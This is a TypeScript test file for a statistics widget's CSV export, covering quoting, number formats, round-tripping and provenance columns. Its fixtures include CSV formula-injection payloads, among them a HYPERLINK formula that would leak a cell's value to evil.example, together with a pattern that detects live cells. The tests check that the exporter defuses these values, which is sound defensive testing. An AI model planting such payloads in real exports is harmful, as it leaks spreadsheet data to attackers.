import { expect } from '@open-wc/testing';
import { parseFeed } from '../../../src/data/parse.js';
import { buildViewModel } from '../../../src/indicators/view-model.js';
import { CSV_BOM, csvField, defused, plainNumber, viewCsv, viewCsvBlob } from '../../../src/components/share/csv.js';
import type { Lang } from '../../../src/data/types.js';

/** A small feed with a status symbol, a qualifier, a hostile region name, a derived value and a SSB table. */
const FEED = {
  innsikt: '1',
  indicators: [{ id: 'commuting', title: 'Pendling', measures: [{ id: 'in', label: 'Innpendlere', unit: 'personer' }] }],
  regions: [
    { code: '3401', name: 'Kongsvinger', level: 'municipality' },
    { code: '3403', name: 'Hamar', level: 'municipality' },
    { code: '3405', name: 'a;"b"', level: 'municipality' },
    { code: '3407', name: '=HYPERLINK("http://evil.example")', level: 'municipality' },
    { code: '34', name: 'Innlandet', level: 'county' },
  ],
  sources: [
    {
      id: 'ssb',
      title: 'Pendling, 4. kvartal',
      publisher: 'Statistisk sentralbyrå',
      table: '11616',
      url: 'https://www.ssb.no/statbank/table/11616/',
      retrieved: '2026-03-12T06:00:00Z',
      updated: '2026-02-24T07:00:00Z',
    },
  ],
  observations: [
    { indicator: 'commuting', measure: 'in', region: '3401', period: '2021', value: 1200.5, source: 'ssb', ref: 'ssb:11616' },
    { indicator: 'commuting', measure: 'in', region: '3403', period: '2021', value: null, status: ':', source: 'ssb' },
    { indicator: 'commuting', measure: 'in', region: '3405', period: '2021', value: 70, qualifier: 'atLeast', qualifierText: 'over 70', source: 'ssb' },
    { indicator: 'commuting', measure: 'in', region: '3407', period: '2021', value: -3.25, source: 'ssb' },
    { indicator: 'commuting', measure: 'in', region: '34', period: '2021', value: 0.000001, derived: true, source: 'ssb' },
  ],
};

function model(lang: Lang = 'nb') {
  return buildViewModel(parseFeed(FEED), { indicator: 'commuting', lang });
}

/** Splits CSV text with a minimal RFC 4180 reader (independent of the code under test). */
function rows(text: string, delimiter: string): string[][] {
  const out: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === delimiter) {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      out.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  if (field !== '' || row.length) out.push([...row, field]);
  return out;
}

function table(text: string, delimiter: string): Array<Record<string, string>> {
  const [head, ...body] = rows(text.replace(/^\uFEFF/, ''), delimiter);
  return body.map((r) => Object.fromEntries(head!.map((h, i) => [h, r[i] ?? ''])));
}

describe('share/csv', () => {
  it('writes exactly the rows behind the view, with a BOM, a header, CRLF and Norwegian number format', () => {
    const m = model('nb');
    const text = viewCsv(m);
    expect(text.startsWith(CSV_BOM)).to.equal(true);
    expect(text.endsWith('\r\n')).to.equal(true);
    expect(text.replace(/\r\n/g, '')).to.not.contain('\n');
    const lines = table(text, ';');
    expect(lines.length).to.equal(m.rows.length + m.totals.length);
    expect(Object.keys(lines[0]!)).to.deep.equal([
      'region_code',
      'region_name',
      'period',
      'measure_code',
      'measure',
      'value',
      'qualifier',
      'qualifier_text',
      'status',
      'unit',
      'derived',
      'source',
      'source_publisher',
      'source_table',
      'source_url',
      'source_retrieved',
      'source_updated',
      'source_series',
      'source_authors',
      'source_part',
      'source_quote',
      'derived_formula',
      'ref',
    ]);
    const by = Object.fromEntries(lines.map((l) => [l.region_code, l]));
    expect(by['3401']).to.include({
      region_name: 'Kongsvinger',
      period: '2021',
      value: '1200,5',
      unit: 'personer',
      source: 'Pendling, 4. kvartal',
      source_publisher: 'Statistisk sentralbyrå',
      source_table: 'tabell 11616',
      ref: 'ssb:11616',
      derived: 'false',
    });
    // A gap keeps its symbol, in the value cell and the status column; never 0.
    expect(by['3403']).to.include({ value: ':', status: ':' });
    // A bound keeps the number in the value cell and the words beside it.
    expect(by['3405']).to.include({ region_name: 'a;"b"', value: '70', qualifier: 'atLeast', qualifier_text: 'over 70' });
    expect(by['3407']).to.include({ value: '-3,25', region_name: `'=HYPERLINK("http://evil.example")` });
    expect(by['34']).to.include({ value: '0,000001', derived: 'true' });
    // Provenance: the table's page, when it was retrieved and last updated.
    expect(by['3401']).to.include({
      source_url: 'https://www.ssb.no/statbank/table/11616/',
      source_retrieved: '2026-03-12T06:00:00Z',
      source_updated: '2026-02-24T07:00:00Z',
      derived_formula: '',
    });
    // The hostile name is quoted, its quotes doubled.
    expect(text).to.contain('"a;""b"""');
  });

  it('writes no cell a spreadsheet would evaluate, in any column: a status symbol in the value cell, names, labels, units, sources', () => {
    const jsonstat = {
      class: 'dataset',
      label: '+SUM(1)',
      source: '@evil',
      id: ['Region', 'ContentsCode', 'Tid'],
      size: [4, 1, 1],
      role: { geo: ['Region'], metric: ['ContentsCode'], time: ['Tid'] },
      dimension: {
        Region: { category: { index: ['X1', 'X2', 'X3', 'X4'], label: { X1: '\n=1+1', X2: '\t=1+1', X3: '-x', X4: 'Gran' } } },
        ContentsCode: { category: { index: ['m'], label: { m: '=measure()' }, unit: { m: { base: '@unit' } } } },
        Tid: { category: { index: ['2021'] } },
      },
      value: [null, null, null, -3.5],
      status: { '0': '=HYPERLINK("https://evil.example/?"&A2,"Klikk")', '1': '+A1', '2': '@A1' },
    };
    for (const lang of ['nb', 'en'] as const) {
      const text = viewCsv(buildViewModel(parseFeed(jsonstat), { indicator: 'x', lang }), { noBom: true });
      const delimiter = lang === 'en' ? ',' : ';';
      const cells = rows(text, delimiter).slice(1).flat();
      const live = cells.filter((c) => /^[=+\-@\t\r\n]/.test(c) && !/^-\d+(?:[.,]\d+)?$/.test(c) && c !== '-');
      expect(live, lang).to.deep.equal([]);
      const lines = table(text, delimiter);
      expect(lines.find((l) => l.region_code === 'X1')).to.include({ value: `'=HYPERLINK("https://evil.example/?"&A2,"Klikk")`, region_name: "'=1+1" });
      expect(lines.find((l) => l.region_code === 'X2')).to.include({ value: "'+A1", status: "'+A1", region_name: "'=1+1" });
      expect(lines.find((l) => l.region_code === 'X3')).to.include({ value: "'@A1", region_name: "'-x" });
      // Numbers stay numbers (a label's leading line break or tab is trimmed by the reader; defused() covers it too).
      expect(lines.find((l) => l.region_code === 'X4')).to.include({ value: lang === 'en' ? '-3.5' : '-3,5', measure: "'=measure()", unit: "'@unit" });
    }
  });

  it('defuses text starting with a line break, a tab or a carriage return, and leaves numbers and status symbols', () => {
    for (const text of ['\n=1+1', '\t=1+1', '\r=1+1', '=1', '+1 2', '-x', '@A1']) expect(defused(text), JSON.stringify(text)).to.equal(`'${text}`);
    for (const text of ['-3,25', '12.5', '..', ':', '-', 'Hamar', '']) expect(defused(text), text).to.equal(text);
  });

  it('writes , and a decimal point in English', () => {
    const lines = table(viewCsv(model('en')), ',');
    expect(lines.find((l) => l.region_code === '3401')).to.include({ value: '1200.5' });
    expect(lines.find((l) => l.region_code === '3407')).to.include({ value: '-3.25' });
  });

  it('reads back through parseFeed: regions, names, periods, values, units and status symbols survive', () => {
    for (const lang of ['nb', 'nn', 'en'] as const) {
      const m = model(lang);
      const back = parseFeed(viewCsv(m));
      expect(back.format).to.equal('csv');
      const byRegion = new Map(back.observations.map((o) => [o.region, o]));
      expect(byRegion.size, lang).to.equal(m.rows.length);
      for (const row of m.rows) {
        const o = byRegion.get(row.region)!;
        expect(o, `${lang} ${row.region}`).to.exist;
        expect(o.value).to.equal(row.value);
        expect(o.period).to.equal(row.period);
        expect(o.unit).to.equal('personer');
        if (row.status) expect(o.status).to.equal(row.status);
        expect(o.measureLabel).to.equal(m.measureLabel);
      }
      const names = new Map(back.regions.map((r) => [r.code, r.name]));
      for (const row of m.rows) if (!row.regionLabel.startsWith('=')) expect(names.get(row.region)).to.equal(row.regionLabel);
      if (lang === 'nb') expect(names.get('3405')).to.equal('a;"b"');
      // The qualifier comes back as a column of its own (a dimension), not lost.
      expect(byRegion.get('3405')!.dims.qualifier).to.equal('atleast');
      expect(back.observations.some((o) => o.value === 0 && o.region === '3403')).to.equal(false);
    }
  });

  it('a report figure: series, authors and the sentence it was taken from in columns, the file and line only in ref', async () => {
    const feed = parseFeed(await (await fetch('/demo/data/rd-share.json')).json());
    const text = viewCsv(buildViewModel(feed, { indicator: 'rd-share', measure: 'share-in-house', lang: 'nb' }), { noBom: true });
    const [header, ...lines] = rows(text, ';');
    const gjovik = Object.fromEntries(header!.map((h, i) => [h, lines.find((l) => l[0] === 'R-gjovik')![i]]));
    expect(gjovik).to.include({
      source_series: 'NIBR-notat 2004:116',
      source_authors: 'Tom Johnstad (red.)',
      source_part: '',
      source_quote:
        'Unntaket her er Gjøvikregionen som alene står for over 70 prosent av all egenutført FoU i Innlandsfylkene og for over 85 prosent av all innkjøpt FoU.',
      ref: '002_4b4b011be2bef435.txt:484',
    });
  });

  it('round-trips the real demo feed for every indicator', async () => {
    const feed = parseFeed(await (await fetch('/demo/data/innlandet.json')).json());
    for (const indicator of ['employment-change', 'rd-share', 'value-creation', 'state-transfers', 'commuting']) {
      const m = buildViewModel(feed, { indicator, lang: 'nb' });
      const back = parseFeed(viewCsv(m));
      const values = [...m.rows, ...m.totals].map((r) => r.value).sort();
      expect(back.observations.map((o) => o.value).sort(), indicator).to.deep.equal(values);
    }
  });

  it('writes a category column for a view with parts', async () => {
    const feed = parseFeed(await (await fetch('/demo/data/innlandet.json')).json());
    const m = buildViewModel(feed, { indicator: 'state-transfers', lang: 'nb' });
    expect(m.rows.some((r) => r.series)).to.equal(true);
    const lines = table(viewCsv(m), ';');
    expect(Object.keys(lines[0]!)).to.include('category');
    expect(lines.every((l) => l.category !== '')).to.equal(true);
  });

  it('quotes what must be quoted and writes plain numbers', () => {
    expect(csvField('a;b', ';')).to.equal('"a;b"');
    expect(csvField('a,b', ';')).to.equal('a,b');
    expect(csvField('say "hi"', ';')).to.equal('"say ""hi"""');
    expect(csvField('two\nlines', ';')).to.equal('"two\nlines"');
    expect(csvField(' padded', ';')).to.equal('" padded"');
    expect(plainNumber(1e21, ',')).to.equal('1000000000000000000000');
    expect(plainNumber(1.5e-7, ',')).to.equal('0,00000015');
    expect(plainNumber(-12807, '.')).to.equal('-12807');
  });

  it('is served as UTF-8 CSV', async () => {
    const blob = viewCsvBlob(model());
    expect(blob.type).to.equal('text/csv;charset=utf-8');
    const bytes = new Uint8Array(await blob.arrayBuffer());
    expect([...bytes.slice(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
  });
});

describe('share/csv provenance', () => {
  it("writes a computed figure's formula in the widget's language, defused like any feed text", () => {
    for (const lang of ['nb', 'en'] as const) {
      const m = model(lang);
      const row = m.rows.find((r) => r.region === '34')! as (typeof m.rows)[number] & { origin?: unknown };
      row.origin = { formula: { nb: '«Innpendlere» summert over kommunene', en: '"In-commuters" summed over the municipalities' } };
      const hostile = m.rows.find((r) => r.region === '3401')! as (typeof m.rows)[number] & { origin?: unknown };
      hostile.origin = { formula: '=HYPERLINK("https://evil.example")' };
      const lines = table(viewCsv(m), lang === 'en' ? ',' : ';');
      expect(lines.find((l) => l.region_code === '34')!.derived_formula).to.equal(
        lang === 'en' ? '"In-commuters" summed over the municipalities' : '«Innpendlere» summert over kommunene',
      );
      expect(lines.find((l) => l.region_code === '3401')!.derived_formula).to.equal(`'=HYPERLINK("https://evil.example")`);
    }
  });
});
